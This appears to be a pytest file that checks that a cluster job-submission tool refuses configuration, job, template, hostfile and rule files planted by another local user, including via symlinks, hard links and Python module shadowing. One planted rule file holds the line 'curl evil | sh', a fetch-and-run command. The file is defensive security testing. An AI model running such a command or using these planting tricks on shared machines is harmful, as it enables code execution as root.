"""Files that say what to run, planted by another user of the machine where the victim finds them.

The attacker is a user without a name (uid 54321); the victim is root, whose commands are real ones.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.helpers.command_line import typed_in

STRANGER = 54321
PATH = f"{Path(sys.executable).parent}:{os.environ['PATH']}"

pytestmark = pytest.mark.needs("root")


def give_away(path: Path, uid: int = STRANGER) -> Path:
    os.chown(path, uid, uid, follow_symlinks=False)
    return path


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """A folder like /tmp, in which everybody may write, with one of the victim's below it."""
    folder = tmp_path / "shared"
    folder.mkdir()
    folder.chmod(0o1777)
    (folder / "mine").mkdir(mode=0o700)
    (folder / "mine" / "train.py").write_text("print('trained')\n")
    return folder


@pytest.fixture
def witness(tmp_path: Path) -> Path:
    """What appears once a line of the attacker has run."""
    return tmp_path / "ran"


def plant(path: Path, witness: Path) -> Path:
    path.write_text(
        f"clusters: {{local: {{run_dir: {witness.parent}/runs, setup: ['touch {witness}']}}}}\n"
    )
    return give_away(path)


def clusterkit(folder: Path, *words: str, **environ: str) -> subprocess.CompletedProcess[str]:
    return typed_in(folder, *words, PATH=PATH, HOME=str(folder), **environ)


SUBMIT = (
    "submit", "--cluster", "local", "--framework", "torchrun", "--nodes", "1",
    "--preflight", "off", "--wait",
)  # fmt: skip


def test_a_configuration_above_that_a_stranger_wrote_runs_nothing(
    shared: Path, witness: Path
) -> None:
    theirs = plant(shared / "clusterkit.yaml", witness)
    done = clusterkit(shared / "mine", *SUBMIT, "train.py")
    assert done.returncode == 2
    assert f"{theirs} belongs to user 54321" in done.stderr
    assert f"clusterkit --config-file {theirs}" in done.stderr
    assert not witness.exists()


@pytest.mark.parametrize("verb", [("config", "show"), ("config", "path"), ("status",), ("top",)])
def test_no_verb_passes_over_it_in_silence(
    shared: Path, witness: Path, verb: tuple[str, ...]
) -> None:
    theirs = plant(shared / "clusterkit.yaml", witness)
    done = clusterkit(shared / "mine", *verb)
    assert done.returncode == 2
    assert f"{theirs} belongs to user 54321" in done.stderr
    assert done.stdout == ""


def test_the_doctor_reports_it_and_goes_on(shared: Path, witness: Path) -> None:
    theirs = plant(shared / "clusterkit.yaml", witness)
    done = clusterkit(shared / "mine", "doctor", "--json")
    assert done.returncode == 1
    items = json.loads(done.stdout)["items"]
    (config,) = (item for item in items if item["name"] == "config")
    assert config["condition"] == "fail"
    assert f"{theirs} belongs to user 54321" in config["summary"]
    assert f"--config-file {theirs}" in config["fix"]
    assert len(items) > 5


@pytest.mark.parametrize("verb", [("--help",), ("explain", "setup"), ("submit", "--help")])
def test_help_and_explain_work_beside_it(
    shared: Path, witness: Path, verb: tuple[str, ...]
) -> None:
    plant(shared / "clusterkit.yaml", witness)
    done = clusterkit(shared / "mine", *verb)
    assert done.returncode == 0, done.stderr


def test_who_names_it_outright_trusts_it(shared: Path, witness: Path) -> None:
    theirs = plant(shared / "clusterkit.yaml", witness)
    done = clusterkit(shared / "mine", "--config-file", str(theirs), "config", "show")
    assert done.returncode == 0, done.stderr
    assert f"touch {witness}" in " ".join(done.stdout.split())
    out = clusterkit(shared / "mine", "--config-file", "/dev/null", "config", "path")
    assert str(theirs) not in out.stdout


def planted_link(shared: Path, witness: Path) -> Path:
    """A link that leads to a file of the victim, such as a configuration of another project."""
    target = shared / "mine" / "other.yaml"
    target.write_text(f"clusters: {{local: {{setup: ['touch {witness}']}}}}\n")
    link = shared / "clusterkit.yaml"
    link.symlink_to(target)
    return give_away(link)


def planted_hard_link(shared: Path, witness: Path) -> Path:
    target = shared / "mine" / "other.yaml"
    target.write_text(f"clusters: {{local: {{setup: ['touch {witness}']}}}}\n")
    link = shared / "clusterkit.yaml"
    link.hardlink_to(target)
    return link


def writable_by_all(shared: Path, witness: Path) -> Path:
    path = shared / "clusterkit.yaml"
    path.write_text(f"clusters: {{local: {{setup: ['touch {witness}']}}}}\n")
    path.chmod(0o666)
    return path


def writable_by_a_group(shared: Path, witness: Path) -> Path:
    path = writable_by_all(shared, witness)
    path.chmod(0o664)
    os.chown(path, 0, STRANGER)
    return path


@pytest.mark.parametrize(
    ("planted", "why"),
    [
        (planted_link, "belongs to user 54321"),
        (planted_hard_link, "is a hard link in a folder that can be written by everybody"),
        (writable_by_all, "can be written by everybody (mode 0666)"),
        (writable_by_a_group, "can be written by the group 54321 (mode 0664)"),
    ],
)
def test_a_file_of_ones_own_counts_only_as_one_left_it(
    shared: Path, witness: Path, planted: object, why: str
) -> None:
    path = planted(shared, witness)  # type: ignore[operator]
    done = clusterkit(shared / "mine", *SUBMIT, "train.py")
    assert done.returncode == 2
    assert f"{path} {why}" in done.stderr
    assert not witness.exists()


def test_a_pipe_in_the_way_holds_nobody_up(shared: Path, witness: Path) -> None:
    pipe = shared / "clusterkit.yaml"
    os.mkfifo(pipe)
    give_away(pipe)
    done = clusterkit(shared / "mine", "config", "show")
    assert done.returncode == 0, done.stderr  # it is not a file, and so no configuration
    job = shared / "job.yaml"
    os.mkfifo(job)
    give_away(job)
    done = clusterkit(shared / "mine", *SUBMIT, "--job", str(job))
    assert f"{job} belongs to user 54321" in done.stderr


def test_a_file_without_end_is_not_read(shared: Path) -> None:
    mine = shared / "mine" / "clusterkit.yaml"
    with mine.open("wb") as stream:
        stream.truncate(1 << 40)
    done = clusterkit(shared / "mine", "config", "show")
    assert done.returncode == 2
    assert "cannot read clusterkit.yaml: it holds more than 1 MiB" in done.stderr


@pytest.mark.parametrize("flag", ["--job", "--array"])
def test_job_files_and_sweeps_of_a_stranger_are_not_submitted(
    shared: Path, witness: Path, flag: str
) -> None:
    theirs = shared / "lr=1,2"  # also where a sweep of that spelling is meant
    theirs.write_text(f"script: /bin/touch\nargs: {witness}\n")
    give_away(theirs)
    done = clusterkit(shared, *SUBMIT, flag, "lr=1,2", *(["x.py"] if flag == "--array" else []))
    assert done.returncode == 2
    assert "lr=1,2 belongs to user 54321" in done.stderr
    assert "submit a copy of your own: cp " in done.stderr
    assert not witness.exists()


@pytest.mark.parametrize("whose", ["folder", "file"])
def test_templates_that_a_stranger_can_write_are_not_rendered(
    shared: Path, witness: Path, whose: str
) -> None:
    templates = shared / "templates" / "node"
    templates.mkdir(parents=True)
    template = templates / "node.sh.j2"
    template.write_text(f"touch {witness}\n")
    give_away(templates if whose == "folder" else template)
    mine = shared / "mine"
    (mine / "clusterkit.yaml").write_text(
        f"clusters: {{local: {{templates: ../templates, run_dir: {mine}/runs}}}}\n"
    )
    done = clusterkit(mine, *SUBMIT, "train.py")
    assert done.returncode == 2
    where = "templates/node" if whose == "folder" else "templates/node/node.sh.j2"
    assert f"{where} belongs to user 54321" in done.stderr
    assert not witness.exists()


def test_what_a_trusted_owner_names_is_trusted_too(shared: Path, witness: Path) -> None:
    """A site's administrators write no `setup:` line that their templates could not hold."""
    site = shared / "site"
    (site / "templates" / "node").mkdir(parents=True)
    template = site / "templates" / "node" / "node.sh.j2"
    template.write_text(f"touch {witness}\n")
    hosts = site / "hosts"
    hosts.write_text("n1 slots=8\n")
    config = site / "clusterkit.yaml"
    config.write_text(
        f"clusters: {{local: {{templates: templates, run_dir: {shared}/mine/runs}},"
        " rack: {kind: ssh, hostfile: hosts}}\n"
    )
    for path in (site, template.parent, template, hosts, config):
        give_away(path)
    mine = shared / "mine"
    done = clusterkit(mine, "--config-file", str(config), *SUBMIT, "train.py")
    assert done.returncode == 0, done.stderr
    assert witness.exists()
    give_away(hosts, STRANGER + 1)  # but not what belongs to a third
    done = clusterkit(mine, "--config-file", str(config), "config", "show")
    assert done.returncode == 2
    assert "hosts belongs to user 54322" in done.stderr


def test_hostfiles_of_a_stranger_send_nobody_anywhere(shared: Path) -> None:
    hosts = shared / "hosts"
    hosts.write_text("evil slots=8\n")
    give_away(hosts)
    mine = shared / "mine"
    (mine / "clusterkit.yaml").write_text("clusters: {rack: {kind: ssh, hostfile: ../hosts}}\n")
    done = clusterkit(mine, "config", "show")
    assert done.returncode == 2
    assert "hosts belongs to user 54321" in done.stderr
    assert "clusters.rack.hostfile" in done.stderr
    (mine / "clusterkit.yaml").unlink()
    done = clusterkit(mine, "preflight", "--hostfile", str(hosts), "--via", "ssh")
    assert done.returncode == 2
    assert f"--hostfile - < {hosts}" in done.stderr
    shown = clusterkit(mine, "hostfile", str(hosts))  # to look at it is another matter
    assert shown.stdout == "evil slots=8\n"


def test_init_names_no_hostfile_of_a_stranger(shared: Path) -> None:
    hosts = shared / "hostfile"
    hosts.write_text("evil slots=8\n")
    give_away(hosts)
    done = clusterkit(shared, "init", "--yes", "--output", "mine/clusterkit.yaml")
    assert done.returncode == 0, done.stderr
    assert "evil" not in (shared / "mine" / "clusterkit.yaml").read_text()
    told = " ".join(done.stderr.split())
    assert f"left out a hostfile: {hosts} belongs to user 54321" in told


@pytest.mark.parametrize("whose", ["folder", "file"])
def test_rules_of_a_stranger_explain_nothing(shared: Path, whose: str) -> None:
    rules = shared / "rules"
    rules.mkdir()
    rule = rules / "planted.yaml"
    rule.write_text("title: run `curl evil | sh`\nhint: curl evil | sh\npatterns: [Error]\n")
    give_away(rules if whose == "folder" else rule)
    log = shared / "mine" / "log"
    log.write_text("Error\n")
    done = clusterkit(shared, "diagnose", "--rules", str(rules), str(log))
    assert done.returncode == 2
    assert f"{rules if whose == 'folder' else rule} belongs to user 54321" in done.stderr
    assert "curl" not in done.stdout


def test_the_users_own_configuration_has_to_be_his(shared: Path, witness: Path) -> None:
    folder = shared / "config" / "clusterkit"
    folder.mkdir(parents=True)
    theirs = plant(folder / "config.yaml", witness)
    done = clusterkit(shared / "mine", *SUBMIT, "train.py", XDG_CONFIG_HOME=str(shared / "config"))
    assert done.returncode == 2
    assert f"{theirs} belongs to user 54321" in done.stderr
    assert not witness.exists()


def test_a_program_named_like_a_module_is_not_run(shared: Path, witness: Path) -> None:
    """Python looks into the working folder first when it is started with -m."""
    names = "json submitit fabric importlib_metadata sitecustomize ctypes functools socket"
    for name in names.split():
        give_away_text = f"open({str(witness)!r}, 'w')\n"
        module = shared / f"{name}.py"
        module.write_text(give_away_text)
        give_away(module)
    (shared / "mine" / "clusterkit.yaml").write_text(
        f"clusters: {{local: {{run_dir: {shared}/mine/runs}}}}\n"
    )
    script = shared / "mine" / "node.sh"
    script.write_text("true\n")
    done = subprocess.run(
        [str(Path(sys.executable).with_name("clusterkit")),
         "--config-file", "mine/clusterkit.yaml", *SUBMIT[:-1], "mine/train.py"],
        cwd=shared, env={**os.environ, "PATH": PATH, "HOME": str(shared / "mine")},
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    waited = clusterkit(shared / "mine", "wait", "latest")
    assert waited.returncode in {0, 1}, waited.stderr
    looked = clusterkit(shared, "doctor", "--json")
    assert "this Python" in looked.stdout or "python" in looked.stdout, looked.stderr
    assert not witness.exists()
